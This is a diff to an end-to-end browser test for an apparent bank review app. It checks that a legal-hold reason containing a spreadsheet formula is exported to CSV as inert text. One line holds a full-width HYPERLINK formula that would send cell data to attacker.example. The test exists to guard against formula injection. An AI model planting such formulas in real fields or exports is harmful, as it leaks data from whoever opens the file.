@@ -1,3 +1,5 @@
+import { readFileSync } from "node:fs";
+import { parseCsv } from "@/lib/review/testing/parse-csv";
 import { signInByApi } from "./fixtures/auth";
 import { demoAccount } from "@/lib/staff/demo-accounts";
 import { liveFixtures } from "./live-fixtures";
@@ -203,14 +205,30 @@ test.describe("a legal hold placed by head office", () => {
   test.use({ account: "supervisor.hq" });
 
   test("is head office's to release: the branch's supervisor sees no release, and a forged release is refused and audited", async ({ page, browser }) => {
+    const customer = newCustomer();
     const tellerContext = await browser.newContext({ storageState: await signInByApi("teller.kumasi", demoAccount("teller.kumasi").password) });
-    const { id } = await issueFingerprintToken(await tellerContext.newPage(), newCustomer());
+    const { id } = await issueFingerprintToken(await tellerContext.newPage(), customer);
     await tellerContext.close();
 
+    // A reason that is a formula in full-width characters, which spreadsheets run like "=".
+    const holdReason = '＝HYPERLINK("http://attacker.example/?leak="＆A1,"EOCO inquiry 2026/52")';
     await page.goto(`/review/tokens/${id}`);
-    await page.getByLabel("Reason for a legal hold").fill("EOCO inquiry 2026/52");
+    await page.getByLabel("Reason for a legal hold").fill(holdReason);
     await page.getByRole("button", { name: "Place a legal hold" }).click();
-    await expect(page.getByTestId("legal-hold")).toContainText("(head office): EOCO inquiry 2026/52");
+    await expect(page.getByTestId("legal-hold")).toContainText(`(head office): ${holdReason}`);
+
+    // The customer's record, built into a CSV by the browser: the formula is text there.
+    await page.goto("/review/customer-records");
+    await page.getByLabel("ID number").fill(customer.ghanaCardNumber);
+    await page.getByLabel("Reason", { exact: true }).fill("Customer's written request of today, ref DSAR-52");
+    await page.getByRole("button", { name: "Produce the record" }).click();
+    await expect(page.getByTestId("customer-record")).toContainText(`Under a legal hold: ${holdReason}`);
+    const downloading = page.waitForEvent("download");
+    await page.getByRole("button", { name: "Download (CSV)" }).click();
+    const [header, row] = parseCsv(readFileSync((await (await downloading).path())!, "utf8").replace(/^\uFEFF/, ""));
+    expect(row![header!.indexOf("Legal hold")]).toBe(`'${holdReason}`);
+
+    await page.goto(`/review/tokens/${id}`);
     // Head office's own release, stopped before the server: the Kumasi supervisor replays it.
     await page.getByLabel("Reason for releasing the hold").fill("Inquiry closed");
     const release = await captureNextAction(page, () => page.getByRole("button", { name: "Release the legal hold" }).click(), { block: true });
